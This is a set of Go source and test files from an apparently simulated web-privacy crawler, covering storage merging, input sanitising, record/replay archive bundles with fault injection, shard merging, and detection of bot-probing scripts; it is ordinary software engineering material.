	if strings.HasSuffix(got, "'") {
		t.Fatalf("truncation left a lone quote: %q", got[len(got)-4:])
	}
}

func TestStorageDigestDeterministicAndSensitive(t *testing.T) {
	build := func() *Storage {
		s := NewStorage()
		s.AddVisit(VisitRecord{SiteURL: "https://a/", Site: "https://a/", OK: true})
		s.AddJSCall(JSCall{Symbol: "Navigator.webdriver", Operation: "get"})
		s.AddCookie(CookieEntry{Name: "id", Value: "1", Domain: "a"})
		s.AddScriptFile("https://a/x.js", "content", "text/javascript")
		s.AddCrash(CrashRecord{SiteURL: "https://a/", Class: "crash"})
		return s
	}
	a, b := build(), build()
	if a.Digest() != b.Digest() {
		t.Fatal("identical stores produced different digests")
	}
	b.AddJSCall(JSCall{Symbol: "Screen.width"})
	if a.Digest() == b.Digest() {
		t.Fatal("digest insensitive to an extra record")
	}
}

func TestSanitizeProperties(t *testing.T) {
	f := func(s string) bool {
		if len(s) > 600 {
			s = s[:600]
		}
		out := Sanitize(s)
		if len(out) > 512 {
			return false
		}
		// no lone quotes: every ' must be part of a doubled pair
		for i := 0; i < len(out); i++ {
			if out[i] != '\'' {
				continue
			}
			// count the run of quotes
			j := i
			for j < len(out) && out[j] == '\'' {
				j++
			}
			if (j-i)%2 != 0 {
				return false
			}
			i = j - 1
		}
		// no raw newlines or NULs
		for i := 0; i < len(out); i++ {
			if out[i] == '\n' || out[i] == 0 {
				return false
			}
		}
		return true
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 500}); err != nil {
		t.Fatal(err)
	}
}

func TestHoneyNamesStableAndDistinct(t *testing.T) {
	a := HoneyNames("client", 4)
	b := HoneyNames("client", 4)
	for i := range a {
		if a[i] != b[i] {
			t.Fatal("honey names not stable per seed")
		}
	}
	c := HoneyNames("other", 4)
	same := 0
	for i := range a {
		if a[i] == c[i] {
			same++
		}
	}
	if same == len(a) {
		t.Fatal("honey names identical across seeds")
	}
	seen := map[string]bool{}
	for _, n := range a {
		if seen[n] {
			t.Fatalf("duplicate honey name %q", n)
		}
		seen[n] = true
	}
}
