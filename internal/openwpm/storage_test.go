package openwpm

import (
	"testing"
	"testing/quick"

	"gullible/internal/httpsim"
)

func TestStorageMergeCombinesRecords(t *testing.T) {
	a := NewStorage()
	b := NewStorage()
	a.AddJSCall(JSCall{Symbol: "Navigator.userAgent"})
	b.AddJSCall(JSCall{Symbol: "Screen.width"})
	a.Requests = append(a.Requests, RequestRecord{URL: "https://x/a", Type: httpsim.TypeScript})
	b.Requests = append(b.Requests, RequestRecord{URL: "https://x/b", Type: httpsim.TypeImage})
	a.AddScriptFile("https://x/a.js", "shared content", "text/javascript")
	b.AddScriptFile("https://y/b.js", "shared content", "text/javascript")
	b.AddScriptFile("https://y/c.js", "other content", "text/javascript")

	a.Merge(b)
	if len(a.JSCalls) != 2 || len(a.Requests) != 2 {
		t.Fatalf("merge lost records: %d calls, %d requests", len(a.JSCalls), len(a.Requests))
	}
	if len(a.ScriptFiles) != 2 {
		t.Fatalf("script files = %d, want 2 unique contents", len(a.ScriptFiles))
	}
	for _, f := range a.ScriptFiles {
		if f.Content == "shared content" && len(f.URLs) != 2 {
			t.Errorf("shared content URLs = %v, want both", f.URLs)
		}
	}
}

func TestStorageMergeIdempotentURLs(t *testing.T) {
	a := NewStorage()
	b := NewStorage()
	a.AddScriptFile("https://x/a.js", "same", "text/javascript")
	b.AddScriptFile("https://x/a.js", "same", "text/javascript")
	a.Merge(b)
	for _, f := range a.ScriptFiles {
		if len(f.URLs) != 1 {
			t.Errorf("duplicate URL retained: %v", f.URLs)
		}
	}
}

func TestSanitizeProperties(t *testing.T) {
	f := func(s string) bool {
		if len(s) > 600 {
			s = s[:600]
		}
		out := Sanitize(s)
		if len(out) > 512 {
			return false
		}
		// no lone quotes: every ' must be part of a doubled pair
		for i := 0; i < len(out); i++ {
			if out[i] != '\'' {
				continue
			}
			// count the run of quotes
			j := i
			for j < len(out) && out[j] == '\'' {
				j++
			}
			if (j-i)%2 != 0 {
				return false
			}
			i = j - 1
		}
		// no raw newlines or NULs
		for i := 0; i < len(out); i++ {
			if out[i] == '\n' || out[i] == 0 {
				return false
			}
		}
		return true
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 500}); err != nil {
		t.Fatal(err)
	}
}

func TestHoneyNamesStableAndDistinct(t *testing.T) {
	a := HoneyNames("client", 4)
	b := HoneyNames("client", 4)
	for i := range a {
		if a[i] != b[i] {
			t.Fatal("honey names not stable per seed")
		}
	}
	c := HoneyNames("other", 4)
	same := 0
	for i := range a {
		if a[i] == c[i] {
			same++
		}
	}
	if same == len(a) {
		t.Fatal("honey names identical across seeds")
	}
	seen := map[string]bool{}
	for _, n := range a {
		if seen[n] {
			t.Fatalf("duplicate honey name %q", n)
		}
		seen[n] = true
	}
}
