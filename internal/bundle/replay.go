package bundle

import (
	"fmt"

	"gullible/internal/analysis"
	"gullible/internal/faults"
	"gullible/internal/httpsim"
	"gullible/internal/openwpm"
)

// MissPolicy decides what a ReplayTransport does for a request the bundle
// never saw (variant replays — different instruments, different interaction
// settings — can issue requests the recording crawl did not).
type MissPolicy int

const (
	// MissFail returns a permanent error for unrecorded requests (the
	// strict default: replays should stay inside the archive).
	MissFail MissPolicy = iota
	// MissPassthrough forwards unrecorded requests to a fallback transport.
	MissPassthrough
	// MissSynthesize404 answers unrecorded requests with an empty 404.
	MissSynthesize404
)

func (p MissPolicy) String() string {
	switch p {
	case MissFail:
		return "fail"
	case MissPassthrough:
		return "passthrough"
	case MissSynthesize404:
		return "synthesize-404"
	}
	return fmt.Sprintf("misspolicy(%d)", int(p))
}

// ParseMissPolicy parses a policy name as used by CLI flags.
func ParseMissPolicy(s string) (MissPolicy, error) {
	switch s {
	case "fail":
		return MissFail, nil
	case "passthrough":
		return MissPassthrough, nil
	case "synthesize-404", "404":
		return MissSynthesize404, nil
	}
	return MissFail, fmt.Errorf("bundle: unknown miss policy %q (want fail, passthrough or synthesize-404)", s)
}

// replayError reproduces an archived transport failure: the exact error
// string plus the fault metadata the browser and recovery pipeline sniff
// (class, virtual cost, visit abortion), so a replayed faulted crawl takes
// the same recovery path and stores the same error strings.
type replayError struct {
	msg     string
	class   faults.Class
	seconds float64
	aborts  bool
}

func (e *replayError) Error() string { return e.msg }

// FaultClass implements faults.Classified.
func (e *replayError) FaultClass() faults.Class { return e.class }

// VirtualCost reports the archived virtual time the failure consumed.
func (e *replayError) VirtualCost() float64 { return e.seconds }

// AbortsVisit reports whether the archived failure killed its visit.
func (e *replayError) AbortsVisit() bool { return e.aborts }

// parseClass maps an archived class name back to the taxonomy.
func parseClass(s string) faults.Class {
	switch s {
	case "none", "":
		return faults.ClassNone
	case "transient":
		return faults.ClassTransient
	case "permanent":
		return faults.ClassPermanent
	case "hang":
		return faults.ClassHang
	case "crash":
		return faults.ClassCrash
	}
	return faults.ClassTransient
}

// ReplayTransport serves a recorded crawl back through the ordinary
// httpsim.RoundTripper interface. Exchanges are indexed by
// (method, URL, top URL) with a (method, URL) fallback, and each key keeps a
// cursor over its recorded sequence — so a request that first failed and
// then succeeded on retry replays as exactly that sequence. A cursor that
// runs past its sequence keeps serving the final exchange (variant replays
// may repeat requests more often than the recording did).
//
// One ReplayTransport serves one goroutine; sharded replays give each
// worker its own transport over the shared read-only bundle.
type ReplayTransport struct {
	bundle   *Bundle
	policy   MissPolicy
	fallback httpsim.RoundTripper

	exchanges []Exchange
	byFull    map[string][]int
	byURL     map[string][]int
	cursor    map[string]int

	// storage-fault replay state
	dropSeq    map[string]int
	dropCursor map[string]int

	// Hits and Misses count recorded vs unrecorded requests served.
	Hits   int
	Misses int
}

// NewReplayTransport indexes a bundle for replay. fallback is only used
// under MissPassthrough and may be nil otherwise.
func NewReplayTransport(b *Bundle, policy MissPolicy, fallback httpsim.RoundTripper) *ReplayTransport {
	t := &ReplayTransport{
		bundle:     b,
		policy:     policy,
		fallback:   fallback,
		byFull:     map[string][]int{},
		byURL:      map[string][]int{},
		cursor:     map[string]int{},
		dropSeq:    map[string]int{},
		dropCursor: map[string]int{},
	}
	for _, v := range b.Visits {
		for _, e := range v.Exchanges {
			i := len(t.exchanges)
			t.exchanges = append(t.exchanges, e)
			fk := e.Method + "\x00" + e.URL + "\x00" + e.TopURL
			uk := e.Method + "\x00" + e.URL
			t.byFull[fk] = append(t.byFull[fk], i)
			t.byURL[uk] = append(t.byURL[uk], i)
		}
	}
	return t
}

// RoundTrip serves the next recorded exchange for the request, or applies
// the miss policy.
func (t *ReplayTransport) RoundTrip(req *httpsim.Request) (*httpsim.Response, error) {
	fk := req.Method + "\x00" + req.URL + "\x00" + req.TopURL
	key, seq := fk, t.byFull[fk]
	if len(seq) == 0 {
		key = req.Method + "\x00" + req.URL
		seq = t.byURL[key]
	}
	if len(seq) == 0 {
		t.Misses++
		switch t.policy {
		case MissPassthrough:
			if t.fallback != nil {
				return t.fallback.RoundTrip(req)
			}
			return nil, faults.Permanentf("bundle: replay miss for %s %s (no fallback transport)", req.Method, req.URL)
		case MissSynthesize404:
			return &httpsim.Response{Status: 404}, nil
		default:
			return nil, faults.Permanentf("bundle: replay miss for %s %s (not in bundle)", req.Method, req.URL)
		}
	}
	t.Hits++
	i := t.cursor[key]
	if i >= len(seq) {
		i = len(seq) - 1 // exhausted: keep serving the final outcome
	} else {
		t.cursor[key] = i + 1
	}
	e := t.exchanges[seq[i]]
	if e.Err != "" {
		return nil, &replayError{
			msg:     e.Err,
			class:   parseClass(e.ErrClass),
			seconds: e.ErrSeconds,
			aborts:  e.ErrAborts,
		}
	}
	resp := &httpsim.Response{
		Status:       e.Status,
		Headers:      e.Headers,
		SetCookies:   e.SetCookies,
		DelaySeconds: e.DelaySeconds,
	}
	if e.BodySHA != "" {
		resp.Body = t.bundle.Bodies[e.BodySHA]
	}
	return resp, nil
}

// OffsetStorage pre-positions the storage-fault replay state as if offset
// writes per table had already happened. A merged bundle's StorageDrops use
// crawl-global write positions; a sharded replay gives each worker its own
// transport and offsets it by the total writes of the shards before it
// (Bundle.StorageWritesFor over the preceding sites), so every worker drops
// exactly the writes its slice of the crawl lost. Call before the first
// request; a serial replay needs no offset.
func (t *ReplayTransport) OffsetStorage(offset map[string]int) {
	for table, n := range offset {
		t.dropSeq[table] = n
		drops := t.bundle.StorageDrops[table]
		c := 0
		for c < len(drops) && drops[c] <= n {
			c++
		}
		t.dropCursor[table] = c
	}
}

// StorageFault replays the recorded storage-drop sequence: the n-th write
// to a table is dropped on replay exactly when it was dropped during
// recording.
func (t *ReplayTransport) StorageFault(table string) bool {
	t.dropSeq[table]++
	drops := t.bundle.StorageDrops[table]
	c := t.dropCursor[table]
	if c < len(drops) && drops[c] == t.dropSeq[table] {
		t.dropCursor[table] = c + 1
		return true
	}
	return false
}

// ReplayCrawl re-runs a crawl offline against the bundle's archive. mutate,
// when non-nil, adjusts the reconstructed configuration before the crawl
// starts (different instruments, run modes or stealth variants — the
// "same site, different observer" experiments). It returns the replay's
// report, the task manager (for storage inspection) and the transport (for
// hit/miss accounting).
func ReplayCrawl(b *Bundle, policy MissPolicy, mutate func(*openwpm.CrawlConfig)) (*openwpm.CrawlReport, *openwpm.TaskManager, *ReplayTransport) {
	cfg := b.Config.CrawlConfig()
	rt := NewReplayTransport(b, policy, nil)
	cfg.Transport = rt
	if b.Config.TamperAnalysis {
		// same code-not-data rule as Stealth: the analyser is pure, so
		// re-attaching it reproduces the recorded tamper table exactly
		cfg.Tamper = analysis.TamperRecorder
	}
	if mutate != nil {
		mutate(&cfg)
	}
	tm := openwpm.NewTaskManager(cfg)
	report := tm.Crawl(b.Sites)
	return report, tm, rt
}
