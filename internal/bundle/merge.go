package bundle

import (
	"fmt"
	"sort"

	"gullible/internal/openwpm"
)

// Merge combines per-shard bundles — recorded by parallel workers over
// contiguous slices of one site list — into a single canonical, digest-sealed
// archive. Parts must be given in shard order (the order their site slices
// partition the input list) so concatenating their sites, visits and crashes
// reconstructs the serial crawl stream exactly.
//
// report, when non-nil, becomes the merged bundle's crawl report; the sharded
// scheduler passes the globally re-folded report here so the sealed bytes are
// identical no matter how many workers recorded the crawl (summing per-shard
// float totals in shard-completion order would not be). A nil report falls
// back to summing the parts' reports with CrawlReport.Merge.
//
// StorageDrops sequence numbers are bundle-global, so each part's drops are
// renumbered by the total per-table writes of the parts before it (from the
// per-visit StorageWrites counts); the merged archive then replays its losses
// correctly both serially and resharded (ReplayTransport.OffsetStorage).
func Merge(parts []*Bundle, report *openwpm.CrawlReport) (*Bundle, error) {
	if len(parts) == 0 {
		return nil, fmt.Errorf("bundle: merge of zero bundles")
	}
	for i, p := range parts {
		if p == nil {
			return nil, fmt.Errorf("bundle: merge part %d is nil", i)
		}
		if p.Manifest.Format != Format {
			return nil, fmt.Errorf("bundle: merge part %d has format %d (want %d)", i, p.Manifest.Format, Format)
		}
		if p.Config != parts[0].Config {
			return nil, fmt.Errorf("bundle: merge part %d config differs from part 0 — shards of one crawl must share a configuration", i)
		}
		if !sameMeta(p.Manifest.Meta, parts[0].Manifest.Meta) {
			return nil, fmt.Errorf("bundle: merge part %d manifest meta differs from part 0", i)
		}
	}
	m := &Bundle{
		Manifest: Manifest{Format: Format, Tool: Tool, Meta: parts[0].Manifest.Meta},
		Config:   parts[0].Config,
	}
	offsets := map[string]int{} // per-table global write position so far
	for i, p := range parts {
		m.Sites = append(m.Sites, p.Sites...)
		m.Visits = append(m.Visits, p.Visits...)
		m.Crashes = append(m.Crashes, p.Crashes...)
		for sha, body := range p.Bodies {
			if prev, ok := m.Bodies[sha]; ok && prev != body {
				return nil, fmt.Errorf("bundle: merge part %d body pool conflicts at %s", i, sha)
			}
			if m.Bodies == nil {
				m.Bodies = map[string]string{}
			}
			m.Bodies[sha] = body
		}
		writes := p.StorageWritesFor(p.Sites)
		for table, seqs := range p.StorageDrops {
			if len(seqs) == 0 {
				continue
			}
			if max := seqs[len(seqs)-1]; max > writes[table] {
				// drops reference write positions the per-visit counts cannot
				// account for: an old-format part without StorageWrites
				return nil, fmt.Errorf("bundle: merge part %d drops write %d of table %s but its visits account for only %d writes (bundle predates per-visit write counts?)", i, max, table, writes[table])
			}
			if m.StorageDrops == nil {
				m.StorageDrops = map[string][]int{}
			}
			for _, seq := range seqs {
				m.StorageDrops[table] = append(m.StorageDrops[table], seq+offsets[table])
			}
		}
		for table, n := range writes {
			offsets[table] += n
		}
	}
	for table := range m.StorageDrops {
		sort.Ints(m.StorageDrops[table])
	}
	dedupeTampers(m.Visits)
	if report != nil {
		m.Report = report
	} else {
		sum := openwpm.NewCrawlReport()
		for _, p := range parts {
			if p.Report != nil {
				sum.Merge(p.Report)
			}
		}
		m.Report = sum
	}
	if err := m.Seal(); err != nil {
		return nil, err
	}
	return m, nil
}

// dedupeTampers keeps each script body's static-analysis record only on the
// first visit (in merged order) that served the body. The storage layer
// analyses content once per store, so every shard's recorder attaches a row
// at its own shard-local first sighting; a serial recording attaches it at
// the global first sighting — which is exactly the earliest surviving row
// here, so the filtered visit stream is byte-identical to a serial one.
func dedupeTampers(visits []Visit) {
	seen := map[string]bool{}
	for i := range visits {
		if len(visits[i].Tampers) == 0 {
			continue
		}
		var kept []openwpm.TamperRecord // fresh slice: parts stay unmutated
		for _, tr := range visits[i].Tampers {
			if !seen[tr.SHA256] {
				seen[tr.SHA256] = true
				kept = append(kept, tr)
			}
		}
		visits[i].Tampers = kept
	}
}

// sameMeta compares manifest label maps by value.
func sameMeta(a, b map[string]string) bool {
	if len(a) != len(b) {
		return false
	}
	for k, v := range a {
		if bv, ok := b[k]; !ok || bv != v {
			return false
		}
	}
	return true
}

// StorageWritesFor sums the per-visit storage write counts of the given
// sites — typically a contiguous shard prefix of the bundle's site list, to
// compute the global write offset at which the next shard starts.
func (b *Bundle) StorageWritesFor(sites []string) map[string]int {
	in := map[string]bool{}
	for _, s := range sites {
		in[s] = true
	}
	out := map[string]int{}
	for _, v := range b.Visits {
		if !in[v.Record.Site] {
			continue
		}
		for table, n := range v.StorageWrites {
			out[table] += n
		}
	}
	return out
}
