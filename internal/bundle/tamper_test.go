package bundle

import (
	"testing"

	"gullible/internal/analysis"
	"gullible/internal/openwpm"
)

// tamperedConfig attaches the AST tamper analyser to the test crawl.
func tamperedConfig(seed int64, numSites int) (openwpm.CrawlConfig, []string) {
	cfg, urls := testConfig(seed, numSites)
	cfg.Tamper = analysis.TamperRecorder
	return cfg, urls
}

func TestRecordReplayTamperIdentity(t *testing.T) {
	cfg, urls := tamperedConfig(23, 8)
	b, _, tm, err := RecordCrawl(cfg, urls, nil)
	if err != nil {
		t.Fatalf("record: %v", err)
	}
	if !b.Config.TamperAnalysis {
		t.Fatal("bundle config should record the tamper analyser")
	}
	if len(tm.Storage.Tampers) == 0 {
		t.Fatal("crawl stored no tamper records; the synthetic web always serves detectors")
	}
	recorded := 0
	for _, v := range b.Visits {
		recorded += len(v.Tampers)
	}
	if recorded != len(tm.Storage.Tampers) {
		t.Fatalf("bundle archived %d tamper records, storage holds %d", recorded, len(tm.Storage.Tampers))
	}

	// Replay re-attaches the analyser automatically (Config.TamperAnalysis):
	// the static findings must reproduce byte-for-byte.
	b2, _, tm2 := recordReplay(t, b)
	if d1, d2 := tm.Storage.Digest(), tm2.Storage.Digest(); d1 != d2 {
		t.Fatalf("storage digest (tamper table included) differs: %s vs %s", d1, d2)
	}
	if d := Diff(b, b2); !d.Empty() {
		t.Fatalf("tamper-analysing replay differs from recording:\n%s", d)
	}
}

func TestDiffFlagsTamperDivergence(t *testing.T) {
	cfg, urls := tamperedConfig(23, 6)
	b, _, _, err := RecordCrawl(cfg, urls, nil)
	if err != nil {
		t.Fatalf("record: %v", err)
	}
	// variant replay with the analyser detached: every archived finding
	// becomes an A-only delta and the config change is surfaced
	rec := NewRecorder(nil)
	rep, tm, _ := ReplayCrawl(b, MissFail, func(c *openwpm.CrawlConfig) {
		c.Tamper = nil
		c.Recorder = rec
	})
	b2, err := rec.Finalize(tm.Cfg, b.Sites, rep)
	if err != nil {
		t.Fatalf("finalize: %v", err)
	}
	d := Diff(b, b2)
	if d.Empty() {
		t.Fatal("diff should flag the missing tamper table")
	}
	foundCfg := false
	for _, c := range d.ConfigChanges {
		if c == "tamperAnalysis: true → false" {
			foundCfg = true
		}
	}
	if !foundCfg {
		t.Errorf("config diff missing tamperAnalysis change: %v", d.ConfigChanges)
	}
	foundTamper := false
	for _, v := range d.Visits {
		if len(v.TampersOnlyInA) > 0 {
			foundTamper = true
		}
		if len(v.TampersOnlyInB) > 0 {
			t.Errorf("variant without analyser produced findings: %v", v.TampersOnlyInB)
		}
	}
	if !foundTamper {
		t.Error("no per-visit tamper deltas surfaced")
	}
}
