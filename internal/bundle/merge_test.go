package bundle

import (
	"reflect"
	"strings"
	"testing"

	"gullible/internal/openwpm"
)

// mkShard builds a minimal one-site shard bundle for merge unit tests.
func mkShard(site string, writes map[string]int, drops map[string][]int) *Bundle {
	return &Bundle{
		Manifest: Manifest{Format: Format, Tool: Tool, Meta: map[string]string{"scenario": "merge-unit"}},
		Config:   Config{OS: 1, ClientID: "merge-test"},
		Sites:    []string{site},
		Visits: []Visit{{
			Record:        openwpm.VisitRecord{SiteURL: site, Site: site},
			StorageWrites: writes,
		}},
		StorageDrops: drops,
	}
}

func TestMergeRenumbersStorageDrops(t *testing.T) {
	// shard 0: 10 js writes, dropped the 3rd; shard 1: 5 js writes, dropped
	// its local 2nd and 4th — globally writes 12 and 14
	a := mkShard("https://a.example/", map[string]int{"javascript": 10}, map[string][]int{"javascript": {3}})
	b := mkShard("https://b.example/", map[string]int{"javascript": 5, "content": 2}, map[string][]int{"javascript": {2, 4}, "content": {1}})
	m, err := Merge([]*Bundle{a, b}, nil)
	if err != nil {
		t.Fatalf("Merge: %v", err)
	}
	if got, want := m.StorageDrops["javascript"], []int{3, 12, 14}; !reflect.DeepEqual(got, want) {
		t.Fatalf("merged javascript drops = %v, want %v", got, want)
	}
	// content had no writes in shard 0, so shard 1's drop keeps its position
	if got, want := m.StorageDrops["content"], []int{1}; !reflect.DeepEqual(got, want) {
		t.Fatalf("merged content drops = %v, want %v", got, want)
	}
	if got, want := m.Sites, []string{"https://a.example/", "https://b.example/"}; !reflect.DeepEqual(got, want) {
		t.Fatalf("merged sites = %v, want %v", got, want)
	}
	if m.Digest == "" {
		t.Fatal("merged bundle is unsealed")
	}
	if err := m.Verify(); err != nil {
		t.Fatalf("merged bundle fails verification: %v", err)
	}
}

func TestMergeValidation(t *testing.T) {
	if _, err := Merge(nil, nil); err == nil {
		t.Fatal("merging zero bundles must fail")
	}

	a := mkShard("https://a.example/", nil, nil)
	bad := mkShard("https://b.example/", nil, nil)
	bad.Config.ClientID = "other-client"
	if _, err := Merge([]*Bundle{a, bad}, nil); err == nil || !strings.Contains(err.Error(), "config") {
		t.Fatalf("config mismatch must fail loudly, got %v", err)
	}

	meta := mkShard("https://b.example/", nil, nil)
	meta.Manifest.Meta = map[string]string{"scenario": "something-else"}
	if _, err := Merge([]*Bundle{a, meta}, nil); err == nil || !strings.Contains(err.Error(), "meta") {
		t.Fatalf("manifest meta mismatch must fail loudly, got %v", err)
	}

	// drops referencing writes the per-visit counts cannot account for
	// (a bundle recorded before StorageWrites existed)
	old := mkShard("https://b.example/", nil, map[string][]int{"javascript": {2}})
	if _, err := Merge([]*Bundle{a, old}, nil); err == nil || !strings.Contains(err.Error(), "account") {
		t.Fatalf("unaccountable drops must fail loudly, got %v", err)
	}
}

func TestMergeDedupesTamperRows(t *testing.T) {
	// both shards saw the same script body and analysed it independently;
	// the merged stream must keep only the globally-first row, like a
	// serial recording would
	rec := openwpm.TamperRecord{SHA256: "aa", URL: "https://cdn.example/d.js", Parsed: true,
		Findings: []openwpm.TamperFinding{{Rule: "webdriver-probe", Line: 3}}}
	a := mkShard("https://a.example/", nil, nil)
	a.Visits[0].Tampers = []openwpm.TamperRecord{rec}
	b := mkShard("https://b.example/", nil, nil)
	b.Visits[0].Tampers = []openwpm.TamperRecord{rec}
	m, err := Merge([]*Bundle{a, b}, nil)
	if err != nil {
		t.Fatalf("Merge: %v", err)
	}
	if got := len(m.Visits[0].Tampers); got != 1 {
		t.Fatalf("first visit has %d tamper rows, want 1", got)
	}
	if got := len(m.Visits[1].Tampers); got != 0 {
		t.Fatalf("second visit kept %d duplicate tamper rows, want 0", got)
	}
	// the input shards must not have been mutated
	if len(b.Visits[0].Tampers) != 1 {
		t.Fatal("Merge mutated an input bundle's tamper rows")
	}
}

func TestOffsetStorageLocalisesGlobalDrops(t *testing.T) {
	b := mkShard("https://a.example/", map[string]int{"javascript": 20}, map[string][]int{"javascript": {3, 12, 14}})
	if err := b.Seal(); err != nil {
		t.Fatal(err)
	}
	rt := NewReplayTransport(b, MissFail, nil)
	// this worker starts after 10 global writes: its local writes 1..4 are
	// global 11..14, so global drops 12 and 14 hit local writes 2 and 4
	rt.OffsetStorage(map[string]int{"javascript": 10})
	want := []bool{false, true, false, true}
	for i, w := range want {
		if got := rt.StorageFault("javascript"); got != w {
			t.Fatalf("offset write %d: StorageFault = %v, want %v", i+1, got, w)
		}
	}
}

func TestStorageWritesFor(t *testing.T) {
	a := mkShard("https://a.example/", map[string]int{"javascript": 7, "content": 1}, nil)
	b := mkShard("https://b.example/", map[string]int{"javascript": 5}, nil)
	m, err := Merge([]*Bundle{a, b}, nil)
	if err != nil {
		t.Fatal(err)
	}
	got := m.StorageWritesFor([]string{"https://a.example/"})
	if !reflect.DeepEqual(got, map[string]int{"javascript": 7, "content": 1}) {
		t.Fatalf("StorageWritesFor(prefix) = %v", got)
	}
	all := m.StorageWritesFor(m.Sites)
	if all["javascript"] != 12 {
		t.Fatalf("StorageWritesFor(all) javascript = %d, want 12", all["javascript"])
	}
}
