package bundle

import (
	"bytes"
	"testing"

	"gullible/internal/openwpm"
	"gullible/internal/telemetry"
)

// traceBytes renders a flight recording in the -trace wire format for
// byte-level comparison.
func traceBytes(t *testing.T, tel *telemetry.Telemetry) []byte {
	t.Helper()
	var buf bytes.Buffer
	if err := telemetry.WriteTrace(&buf, tel.Spans.Events()); err != nil {
		t.Fatal(err)
	}
	return buf.Bytes()
}

// A replayed bundle runs on the same virtual clock as its recording, so the
// flight recorder must reproduce the recorded span stream bit for bit and
// the metrics registries must not differ in a single series — the paper's
// notion of a trustworthy re-measurement, applied to the tool's own
// internals.
func TestReplayReproducesTelemetry(t *testing.T) {
	cfg, urls := faultedConfig(23, 5, 8)
	telLive := telemetry.New()
	cfg.Telemetry = telLive
	if inj, ok := cfg.Transport.(interface {
		SetTelemetry(*telemetry.Telemetry)
	}); ok {
		inj.SetTelemetry(telLive)
	}

	b, liveReport, _, err := RecordCrawl(cfg, urls, map[string]string{"scenario": "telemetry"})
	if err != nil {
		t.Fatalf("record: %v", err)
	}
	if liveReport.Metrics == nil {
		t.Fatal("instrumented recording produced no metrics snapshot")
	}
	if b.Report == nil || b.Report.Metrics == nil {
		t.Fatal("bundle did not embed the crawl's metrics snapshot")
	}

	telReplay := telemetry.New()
	replayReport, _, rt := ReplayCrawl(b, MissFail, func(c *openwpm.CrawlConfig) {
		c.Telemetry = telReplay
	})
	if rt.Misses != 0 {
		t.Fatalf("identity replay had %d misses", rt.Misses)
	}
	if replayReport.Metrics == nil {
		t.Fatal("instrumented replay produced no metrics snapshot")
	}

	live, replay := traceBytes(t, telLive), traceBytes(t, telReplay)
	if len(live) == 0 {
		t.Fatal("live run recorded no span events")
	}
	if !bytes.Equal(live, replay) {
		t.Fatalf("span traces diverged between record and replay (%d vs %d bytes)", len(live), len(replay))
	}

	// The transport-fault stream replays with the bundle, so the injector-
	// side series are the only expected difference: the live injector counts
	// faults_injected_total, the replay has no injector. Everything the
	// crawler itself observed must match exactly.
	for _, key := range liveReport.Metrics.Diff(replayReport.Metrics) {
		if !bytes.HasPrefix([]byte(key), []byte("counter:faults_injected_total")) {
			t.Fatalf("record and replay disagree on %s (full diff: %v)",
				key, liveReport.Metrics.Diff(replayReport.Metrics))
		}
	}

	// Per-visit extraction: the first visit span's subtree must be present
	// and identical on both sides.
	var visitSpan int64
	for _, ev := range telLive.Spans.Events() {
		if ev.Kind == "B" && ev.Name == "visit" {
			visitSpan = ev.Span
			break
		}
	}
	if visitSpan == 0 {
		t.Fatal("no visit span recorded")
	}
	liveVisit, replayVisit := telLive.Spans.Trace(visitSpan), telReplay.Spans.Trace(visitSpan)
	if len(liveVisit) == 0 {
		t.Fatal("visit trace extraction returned nothing")
	}
	var lb, rb bytes.Buffer
	if err := telemetry.WriteTrace(&lb, liveVisit); err != nil {
		t.Fatal(err)
	}
	if err := telemetry.WriteTrace(&rb, replayVisit); err != nil {
		t.Fatal(err)
	}
	if !bytes.Equal(lb.Bytes(), rb.Bytes()) {
		t.Fatal("per-visit traces diverged between record and replay")
	}
}

// Telemetry-free bundles must serialise without any metrics field, so
// archives recorded before the telemetry layer existed stay byte-stable.
func TestBundleWithoutTelemetryOmitsMetrics(t *testing.T) {
	cfg, urls := testConfig(29, 4)
	b, _, _, err := RecordCrawl(cfg, urls, nil)
	if err != nil {
		t.Fatalf("record: %v", err)
	}
	data, err := b.Marshal()
	if err != nil {
		t.Fatalf("marshal: %v", err)
	}
	if bytes.Contains(data, []byte(`"Metrics"`)) {
		t.Fatal("uninstrumented bundle serialised a Metrics field")
	}
}
