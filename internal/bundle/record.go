package bundle

import (
	"crypto/sha256"
	"encoding/hex"
	"encoding/json"
	"fmt"
	"sort"

	"gullible/internal/faults"
	"gullible/internal/httpsim"
	"gullible/internal/openwpm"
)

// Spool receives the recorder's archive stream as it is produced, so a
// durable backend can persist bundle state incrementally instead of only at
// Finalize. Bodies are spooled once per SHA (the pool is content-addressed);
// visits are spooled as they close. A spool failure never blocks recording —
// the in-memory bundle stays authoritative and failures are counted.
type Spool interface {
	SpoolBody(sha, content string) error
	SpoolVisit(v Visit) error
}

// Recorder archives a crawl into a Bundle. It implements openwpm.Recorder:
// a transport wrapper captures every HTTP exchange (responses and errors
// alike) and every storage-fault drop decision, while the storage-observer
// side receives each accepted record. Visits arrive last for their page, so
// everything buffered since the previous visit row belongs to them.
//
// A Recorder serves one crawl on one goroutine (sharded crawls need one
// recorder per worker); Finalize assembles the Bundle.
type Recorder struct {
	meta map[string]string

	// Spool, when non-nil, receives bodies and visits as they are archived
	// (streamed off the same append path as the storage backend).
	Spool Spool

	bodies      map[string]string
	spoolErrors int

	// per-visit buffers, flushed by ObserveVisit
	pendingExchanges []Exchange
	pendingJSCalls   []openwpm.JSCall
	pendingCookies   []openwpm.CookieEntry
	pendingScripts   []ScriptRef
	pendingTampers   []openwpm.TamperRecord

	visits  []Visit
	crashes []openwpm.CrashRecord

	// storage-fault archive: writeSeq counts fault-filter consultations per
	// table; drops holds the 1-based sequence numbers that were dropped, and
	// lastWriteSeq remembers each table's count at the previous visit row so
	// ObserveVisit can attribute the delta to the closing visit.
	writeSeq     map[string]int
	drops        map[string][]int
	lastWriteSeq map[string]int
}

// NewRecorder creates a Recorder. meta labels the bundle manifest; it must
// be deterministic content (seeds, scenario names — never timestamps).
func NewRecorder(meta map[string]string) *Recorder {
	return &Recorder{
		meta:         meta,
		bodies:       map[string]string{},
		writeSeq:     map[string]int{},
		drops:        map[string][]int{},
		lastWriteSeq: map[string]int{},
	}
}

// intern stores content in the body pool and returns its SHA-256 key.
func (r *Recorder) intern(content string) string {
	sum := sha256.Sum256([]byte(content))
	key := hex.EncodeToString(sum[:])
	if _, ok := r.bodies[key]; !ok {
		r.bodies[key] = content
		r.spoolBody(key, content)
	}
	return key
}

// spoolBody forwards a newly interned body to the spool, counting failures.
func (r *Recorder) spoolBody(sha, content string) {
	if r.Spool == nil {
		return
	}
